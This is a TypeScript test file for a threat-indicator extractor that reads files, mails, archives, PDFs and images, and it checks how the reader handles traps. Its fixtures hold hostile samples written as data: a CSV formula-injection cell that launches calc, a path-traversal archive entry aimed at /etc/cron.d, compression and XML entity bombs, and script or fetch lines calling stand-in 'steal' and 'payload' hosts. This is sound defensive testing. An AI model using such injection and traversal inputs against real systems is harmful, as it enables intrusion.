import { gzipSync } from "node:zlib";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { soak } from "../testing/soak.ts";
import { readBytes } from "./read-bytes.ts";
import {
  docxOf,
  EICAR,
  GIF,
  gzipBomb,
  mailWith,
  nestedZip,
  pdfOf,
  program,
  SVG,
  tarOf,
  zipBomb,
  zipOf,
} from "./testing/files.ts";

/** A 7z archive that holds a.txt, which says "seen at 45.83.70.8", uncompressed. */
const SEVEN_ZIP =
  "N3q8ryccAASsm9QyEgAAAAAAAAAuAAAAAAAAACG9w2dzZWVuIGF0IDQ1LjgzLjcwLjgBBAYAAQkSAAcLAQABAQAMEgoBbzJ5dAAIAAAFARENAGEALgB0AHgAdAAAAAAA";
const MIB = 1024 * 1024;
const read = async (content: string | Buffer, name = "", limits = {}) => {
  const { indicators, ...reading } = await readBytes(Buffer.from(content), name, limits);
  return { ...reading, found: indicators?.map(({ value }) => value) ?? null };
};

describe("readers", () => {
  it("find the indicators of texts, and how often each occurs", async () => {
    const text = "45.83.70.1 hxxp://evil[.]example[.]org/a 45.83.70.1\nmail@example.com 2001:db8::1";
    const { indicators } = await readBytes(Buffer.from(text), "a.txt");
    expect(indicators).toEqual([
      { type: "ipv4", value: "45.83.70.1", count: 2 },
      { type: "url", value: "http://evil.example.org/a", count: 1 },
      { type: "ipv6", value: "2001:db8::1", count: 1 },
    ]);
    const wide = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from("45.83.70.2", "utf16le")]);
    expect(await read(wide)).toMatchObject({ type: "text", found: ["45.83.70.2"], error: null });
  });

  it("tell networks from hosts, in documents and in what is packed", async () => {
    const list = "45.83.70.0/24, 45.83.71.9/24, http://45.83.72.1/24 45.83.73.0/24-45.83.74.0/24";
    const found = [
      "45.83.70.0/24",
      "45.83.71.9",
      "http://45.83.72.1/24",
      "45.83.72.1",
      "45.83.73.0/24",
      "45.83.74.0/24",
    ];
    expect(await read(list, "a.txt")).toMatchObject({ found });
    expect(await read(zipOf({ "a.txt": list }))).toMatchObject({ found });
    expect(await read('[{"prefix":"45.83.70.0\\/24"},{"prefix":"2001:db8::/32"}]', "a.json")).toMatchObject({
      found: ["45.83.70.0/24", "2001:db8::/32"],
    });
    expect(await read("prefix,as\n45.83.70.0/24,64500\n", "a.csv")).toMatchObject({ found: ["45.83.70.0/24"] });
  });

  it("read pages without what names their language", async () => {
    const page = `<!DOCTYPE html PUBLIC "-//W3C//DTD" "http://www.w3.org/TR/x.dtd"><html xmlns="http://www.w3.org/1999/xhtml">
      <title>Sign in</title><a href="http://phish.example.org/?a=1&amp;b=2">x</a>`;
    expect(await read(page)).toMatchObject({
      type: "code",
      mediaType: "text/plain",
      metadata: { title: "Sign in", has_scripts: false },
      found: ["http://phish.example.org/?a=1&b=2"],
    });
  });

  it("read a mail: its headers, its page, and the archive that hangs on it", async () => {
    const mail = await read(mailWith(zipOf({ "invoice.js": "fetch('http://payload.example.org/x')" })), "m.eml");
    expect(mail).toMatchObject({
      type: "document",
      mediaType: "text/plain",
      metadata: { from: "eve@sender.example.org", subject: "An invoice", attachments: 1 },
      error: null,
    });
    expect(mail.found).toEqual(
      expect.arrayContaining(["45.83.70.31", "http://phish.example.org/login", "http://payload.example.org/x"]),
    );
  });

  it("read documents: runs of a paragraph as one, links that lead outside, and who wrote it", async () => {
    const docx = await read(docxOf("Beacon to 45.83.70.3", "http://link.example.org/a?x=1&amp;y=2"));
    expect(docx).toMatchObject({ type: "document", metadata: { author: "Eve Example" }, error: null });
    expect(docx.found).toEqual(["45.83.70.3", "http://link.example.org/a?x=1&y=2"]);
    const xlsx = zipOf({
      "xl/workbook.xml": "<workbook/>",
      "xl/sharedStrings.xml": "<sst><si><t>45.83.70.4</t></si><si><t>5.6.7.8</t></si></sst>",
    });
    expect(await read(xlsx)).toMatchObject({ type: "document", found: ["45.83.70.4", "5.6.7.8"] });
  });

  it("read archives: ZIP, tar and what is compressed", async () => {
    expect(await read(zipOf({ "a.txt": "45.83.70.5", "b/c.log": "45.83.70.6" }))).toMatchObject({
      type: "archive",
      mediaType: "application/zip",
      metadata: { entries: 2, names: "a.txt, b/c.log" },
      found: ["45.83.70.5", "45.83.70.6"],
    });
    const tar = tarOf({ "l.log": "45.83.70.7\n" });
    expect(await read(tar)).toMatchObject({ type: "archive", found: ["45.83.70.7"] });
    expect(await read(gzipSync(tar), "l.tgz")).toMatchObject({ type: "archive", found: ["45.83.70.7"] });
  });

  it("read 7z archives", async () => {
    expect(await read(Buffer.from(SEVEN_ZIP, "base64"))).toMatchObject({
      type: "archive",
      found: ["45.83.70.8"],
      error: null,
    });
  });

  it("tell of pictures how large they are", async () => {
    expect(await read(GIF, "Screenshot 2026.gif")).toMatchObject({
      type: "screenshot",
      mediaType: "image/gif",
      metadata: { width: 1, height: 1 },
    });
    expect(await read(GIF, "x.txt")).toMatchObject({ type: "image" });
  });

  it.each([
    ["a.log", "2026-01-01 10:00:00 started", "log"],
    ["a.py", "print(1)", "code"],
    ["x", "#!/bin/sh\necho", "code"],
    ["a.csv", "a,b\n1,2", "text"],
    ["a.exe", "just text", "text"],
    ["a.txt", "\0\u0001\u0002\u0003", "other"],
    ["a.txt", "{\\rtf1 hello}", "document"],
    ["a.txt", "\0\0\0\u0018ftypisom\0\0\u0002\0isomiso2", "video"],
    ["a.txt", "\u00d4\u00c3\u00b2\u00a1\u0002\0\u0004\0\0\0\0\0\0\0\0\0\0\0\u0004\0\u0001\0\0\0", "pcap"],
  ])("take %s of %j for %s", async (name, content, type) => {
    expect((await read(Buffer.from(content, "latin1"), name)).type).toBe(type);
  });
});

describe("traps", () => {
  it.each([
    ["a zip bomb", () => zipBomb(6)],
    ["a gzip bomb", () => gzipBomb(6)],
    ["a gzip bomb within a ZIP", () => zipOf({ "a.gz": gzipBomb(6) })],
  ])("%s is not unpacked", async (_what, make) => {
    const { error, found } = await read(make());
    expect(error).toBe("The archive holds more than 200 times its size: it may be a bomb");
    expect(found).toEqual([]);
  });

  it("archives within archives are read so many deep, and an archive of itself is none the worse", async () => {
    expect((await read(nestedZip(3, "45.83.70.9"))).found).toEqual(["45.83.70.9"]);
    const { error, found } = await read(nestedZip(40, "45.83.70.9"));
    expect(error).toBe("Archives are nested more than 4 deep");
    expect(found).toEqual([]);
  });

  it("limits count all that is within a file", async () => {
    const files = Object.fromEntries(Array.from({ length: 30 }, (_, n) => [`${n}.txt`, `45.83.71.${n}`]));
    expect((await read(zipOf(files), "", { entries: 20 })).error).toBe("The archive has more than 20 entries");
    expect((await read(zipOf(files), "", { textChars: 100 })).error).toBe(
      "The file has more than 100 characters of text",
    );
    expect((await read(zipOf(files), "", { indicators: 10 })).error).toBe("The file names more than 10 indicators");
    expect((await read("45.83.71.1", "", { processorMs: -1 })).error).toBe("Reading the file took too long");
    const large = zipOf({ a: Buffer.alloc(MIB, "ab\n"), b: Buffer.alloc(2 * MIB, "cd\n") });
    expect((await read(large, "", { unpackedBytes: 2 * MIB })).error).toBe("The archive holds more than 2 MB");
  });

  it("names in archives that lead elsewhere are reported, and written nowhere", async () => {
    const { metadata, found } = await read(zipOf({ "../../etc/cron.d/x": "45.83.70.10", "C:\\x\u202E.txt": "" }));
    expect(metadata).toMatchObject({ unsafe_names: true, entries: 2 });
    expect(metadata["names"]).not.toMatch(/\u202E/);
    expect(found).toEqual(["45.83.70.10"]);
  });

  it("joins what a line of a PDF breaks at a hyphen", async () => {
    const nextLine = ") Tj 0 -14 Td (";
    const text = [
      "Reported by us-",
      "cert.example.org, see https://a.example.org/white-",
      "paper.html - and -",
      "45.83.70.12",
    ];
    const { found } = await read(pdfOf(text.join(nextLine), ""));
    expect(found).toEqual(["us-cert.example.org", "https://a.example.org/white-paper.html", "45.83.70.12"]);
  });

  it("a PDF's scripts are noticed and not run; its text and links are read", async () => {
    const pdf = await read(pdfOf("Beacon to 45.83.70.11", "http://pdf.example.org/"));
    expect(pdf).toMatchObject({ type: "pdf", metadata: { pages: 1, has_scripts: true }, error: null });
    expect(pdf.found).toEqual(["45.83.70.11", "http://pdf.example.org/"]);
  });

  it("a drawing with scripts is code, and is given out as text", async () => {
    expect(await read(SVG, "logo.svg")).toMatchObject({
      type: "code",
      mediaType: "text/plain",
      metadata: { has_scripts: true },
      found: ["http://svg.example.org/steal"],
    });
  });

  it("what can be read in two ways is what is more dangerous", async () => {
    const inner = zipOf({ "a.txt": "45.83.70.12" });
    expect(await read(Buffer.concat([GIF, inner]), "a.gif")).toMatchObject({
      type: "archive",
      mediaType: "application/octet-stream",
      metadata: { also_readable_as: "image/gif" },
      found: ["45.83.70.12"],
    });
    const page = Buffer.concat([GIF, Buffer.from("<script>location='http://script.example.org/'</script>")]);
    expect(await read(page, "a.gif")).toMatchObject({ type: "code", mediaType: "application/octet-stream" });
    const late = Buffer.concat([Buffer.from("#!/bin/sh\n"), pdfOf("x", "http://pdf.example.org/")]);
    expect(await read(late)).toMatchObject({ type: "pdf", mediaType: "application/octet-stream" });
  });

  it("formulas in a CSV are text", async () => {
    const cells = `=cmd|'/c calc'!A0,"=HYPERLINK(""http://formula.example.org/"",""x"")"\n`;
    expect(await read(cells, "a.csv")).toMatchObject({ type: "text", mediaType: "text/plain", error: null });
  });

  it("malware and programs are not read, wherever they are found", async () => {
    expect(await read(EICAR, "holiday.jpg")).toMatchObject({ type: "malware", found: null });
    expect(await read(program(), "holiday.jpg")).toMatchObject({ type: "sample", found: null });
    expect(await read(Buffer.from("7f454c4602010100", "hex"))).toMatchObject({ type: "sample" });
    const packed = zipOf({ "x/holiday.jpg": program(), "a.txt": "45.83.70.13" });
    expect(await read(packed)).toMatchObject({
      type: "sample",
      metadata: { holds: "a program" },
      found: ["45.83.70.13"],
    });
    expect(await read(mailWith(zipOf({ "a.txt": EICAR })))).toMatchObject({ type: "malware" });
    expect(
      await read("MZ is how names of programs begin, in a text of some length that is none of them"),
    ).toMatchObject({ type: "text" });
  });

  it("entities of documents are not expanded", async () => {
    const bomb = `<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><w:document>&b;</w:document>`;
    expect((await read(docxOf("x", "http://a.example.org/", { "word/document.xml": bomb }))).error).toBe(
      "The document declares entities, and was not read further",
    );
  });

  it("damage is reported, and what was read before it is stored", async () => {
    const cut = (content: Buffer) => content.subarray(0, Math.floor(content.length * 0.6));
    expect((await read(cut(pdfOf("x", "http://x.example.org/")))).type).toBe("pdf");
    const DAMAGED = "The archive is damaged, and was read only in part or not at all";
    const tar = await read(cut(tarOf({ "a.log": "45.83.70.14", "b.log": "x".repeat(3000) })));
    expect(tar).toMatchObject({ type: "archive", found: ["45.83.70.14"], error: DAMAGED });
    const noise = Buffer.from(Array.from({ length: 4000 }, (_, n) => ((n * n * 7919) >> 3) & 255));
    const zip = await read(cut(zipOf({ "a.bin": noise, "b.bin": noise })));
    expect(zip).toMatchObject({ type: "archive", error: DAMAGED });
    expect(await read(Buffer.concat([Buffer.from([0x1f, 0x8b, 8]), noise]))).toMatchObject({
      type: "archive",
      found: [],
      error: DAMAGED,
    });
    expect(await read(gzipSync("45.83.70.15 ".repeat(20)).subarray(0, -4))).toMatchObject({
      type: "archive",
      metadata: { unpacked_bytes: 240 },
      found: ["45.83.70.15"],
      error: DAMAGED,
    });
  });

  it("any bytes are answered, also behind the marks of the formats that are read", async () => {
    const marks = [
      "",
      "%PDF-1.7\n",
      "PK\u0003\u0004",
      "\u001f\u008b\b",
      "7z\u00bc\u00af'\u001c",
      "GIF89a",
      "\u00ff\u00d8\u00ff",
      "\u00a1\u00b2\u00c3\u00d4",
      "\n\r\r\n",
      "From: a\nTo: b\nSubject: c\n\n",
      "<svg>",
      "{\\rtf",
    ];
    await fc.assert(
      fc.asyncProperty(fc.constantFrom(...marks), fc.uint8Array({ maxLength: 600 }), async (mark, rest) => {
        const { type, error } = await read(Buffer.concat([Buffer.from(mark, "latin1"), rest]));
        expect(type).not.toBe("malware");
        expect(error ?? "").not.toMatch(/\n|undefined/);
      }),
      { numRuns: soak(20_000, 150) },
    );
  });
});
